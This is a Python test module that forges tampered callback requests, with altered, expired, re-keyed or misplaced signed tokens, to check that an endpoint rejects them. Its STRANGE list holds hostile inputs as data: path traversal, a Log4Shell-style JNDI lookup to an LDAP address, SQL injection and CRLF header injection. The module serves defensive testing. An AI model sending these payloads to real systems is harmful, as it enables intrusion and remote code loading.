"""Calls whose path no provider was given; each takes chance and a genuine call."""

import base64
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from random import Random
from typing import Any
from urllib.parse import quote

from retake.domain.signed_links import LinkSecrets, Signer
from retake.steps.callback import PURPOSE

from tests.functions.callback_endpoint import SIGNER, Event, Sent, body_of

Forgery = Callable[[Random, Sent], Event]
Forgeries = dict[str, Forgery]
URL_CHARS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
STRANGE = (
    "../../uploads",
    "..%2f..%2fedits",
    "%2e%2e/",
    "\x00",
    "e-1\r\nx: y",
    "${jndi:ldap://192.0.2.1/a}",
    "' OR 1=1 --",
    "edit#e-0",
    "\ud800",
    "٣",
    "\N{MATHEMATICAL BOLD DIGIT ONE}",
    "x" * 8192,
    " ",
    "*",
    "{edit_id}",
    "null",
)


def other(sent: Sent) -> Sent:
    assert sent.other is not None
    return sent.other


def with_token(sent: Sent, token: Any) -> Event:
    return replace(sent, token=token).event()


def subject(sent: Sent) -> tuple[str, str, str]:
    return sent.provider, sent.edit_id, sent.attempt


def tail(chance: Random, length: int) -> str:
    return "".join(chance.choices(URL_CHARS, k=length))


def made_up(chance: Random, sent: Sent) -> Event:
    kid, expiry, _ = sent.token.split(".")
    return with_token(sent, f"{kid}.{expiry}.{tail(chance, 43)}")


def one_letter_off(chance: Random, sent: Sent) -> Event:
    place = chance.randrange(len(sent.token))
    letter = chance.choice([each for each in URL_CHARS if each != sent.token[place]])
    return with_token(sent, sent.token[:place] + letter + sent.token[place + 1 :])


def truncated(chance: Random, sent: Sent) -> Event:
    return with_token(sent, sent.token[: chance.randrange(len(sent.token))])


def extended(chance: Random, sent: Sent) -> Event:
    more = chance.choice(["=", ".", " ", "\n", "\x00", "/", "A", "." + sent.token])
    return with_token(sent, sent.token + more * chance.choice([1, 2, 100, 5000]))


def respelt(chance: Random, sent: Sent) -> Event:
    mac = sent.token.rpartition(".")[2]
    forms = [
        sent.token.swapcase(),
        sent.token.upper(),
        quote(sent.token, safe="").replace(".", "%2E"),
        sent.token.replace(".", "\N{FULLWIDTH FULL STOP}"),
        sent.token.replace("k", "\N{FULLWIDTH LATIN SMALL LETTER K}"),
        sent.token.replace(mac, base64.b64encode(mac.encode()).decode()),
        f" {sent.token}",
        sent.token.replace(".", "..", 1),
        sent.token.replace("k2.", "k2.0", 1),
    ]
    return with_token(sent, chance.choice(forms))


def without_token(chance: Random, sent: Sent) -> Event:
    return with_token(sent, chance.choice(["", None, ".", "..", "k2", "k2..", "null"]))


def of_another_edit(chance: Random, sent: Sent) -> Event:
    return with_token(sent, other(sent).token)


def for_another_edit(chance: Random, sent: Sent) -> Event:
    return replace(sent, edit_id=other(sent).edit_id).event()


def for_another_attempt(chance: Random, sent: Sent) -> Event:
    attempt = chance.choice(
        ["0", "2", "01", "+1", "1.0", "-1", "\N{ARABIC-INDIC DIGIT ONE}", " 1", "1 ", "", "999999"]
    )
    return replace(sent, attempt=attempt).event()


def for_another_provider(chance: Random, sent: Sent) -> Event:
    names = {"novita", "evolink", "fal", "aimlapi", "FAL", ""} - {sent.provider}
    name = chance.choice(sorted(names))
    known = name in ("novita", "evolink", "fal")
    body = body_of(name, sent.task_id) if known else sent.body
    return replace(sent, provider=name).with_body(body).event()


def split_anew(chance: Random, sent: Sent) -> Event:
    """The same letters in all parts together, shared out otherwise."""
    whole = "".join(subject(sent))
    first, second = sorted(chance.sample(range(len(whole) + 1), 2))
    parts = whole[:first], whole[first:second], whole[second:]
    if parts == subject(sent):
        return with_token(sent, "")
    return replace(sent, provider=parts[0], edit_id=parts[1], attempt=parts[2]).event()


def of_an_unknown_key(chance: Random, sent: Sent) -> Event:
    kid = chance.choice(["k0", "k3", "K2", "", "none", "k2\n", "0"])
    return with_token(sent, f"{kid}.{sent.token.partition('.')[2]}")


def of_the_other_key(chance: Random, sent: Sent) -> Event:
    return with_token(sent, f"k1.{sent.token.partition('.')[2]}")


def with_a_strangers_secret(chance: Random, sent: Sent) -> Event:
    stranger = Signer(lambda: LinkSecrets((("k2", chance.randbytes(32)),)))
    until = sent.now + timedelta(days=chance.randrange(1, 400))
    return with_token(sent, stranger.token(PURPOSE, *subject(sent), until=until))


def prolonged(chance: Random, sent: Sent) -> Event:
    kid, _, mac = sent.token.split(".")
    expiry = chance.choice(["zzzzzz", "zzzzzzz", "-1", "0x7fffffff", "inf", "z" * 60])
    return with_token(sent, f"{kid}.{expiry}.{mac}")


def expired(chance: Random, sent: Sent) -> Event:
    until = sent.now - timedelta(seconds=chance.randrange(1, 10**8))
    return with_token(sent, SIGNER.token(PURPOSE, *subject(sent), until=until))


def for_another_purpose(chance: Random, sent: Sent) -> Event:
    purpose = chance.choice(["share", "upload", "", "Callback", "callback "])
    until = sent.now + timedelta(days=1)
    return with_token(sent, SIGNER.token(purpose, *subject(sent), until=until))


def strange_parts(chance: Random, sent: Sent) -> Event:
    name = chance.choice(["provider", "edit_id", "attempt", "token"])
    part = chance.choice(STRANGE)
    before = getattr(sent, name)
    return replace(sent, **{name: chance.choice([part, before + part, part + before])}).event()


def without_parts(chance: Random, sent: Sent) -> Event:
    event = sent.event()
    name = chance.choice(["provider", "edit_id", "attempt", "token"])
    left = {key: value for key, value in event["pathParameters"].items() if key != name}
    event["pathParameters"] = chance.choice([None, {}, left, left | {name: None}])
    if chance.random() < 0.3:
        del event["pathParameters"]
    return event


OF_THE_PATH: Forgeries = {
    "no token": without_token,
    "a made-up token": made_up,
    "a token with one letter off": one_letter_off,
    "a truncated token": truncated,
    "an extended token": extended,
    "a token spelt otherwise": respelt,
    "the token of another edit": of_another_edit,
    "another edit": for_another_edit,
    "another attempt": for_another_attempt,
    "another provider": for_another_provider,
    "parts split anew": split_anew,
    "an unknown key id": of_an_unknown_key,
    "the id of the other key": of_the_other_key,
    "a stranger's secret": with_a_strangers_secret,
    "a prolonged token": prolonged,
    "an expired token": expired,
    "a token for something else": for_another_purpose,
    "strange parts": strange_parts,
    "missing parts": without_parts,
}
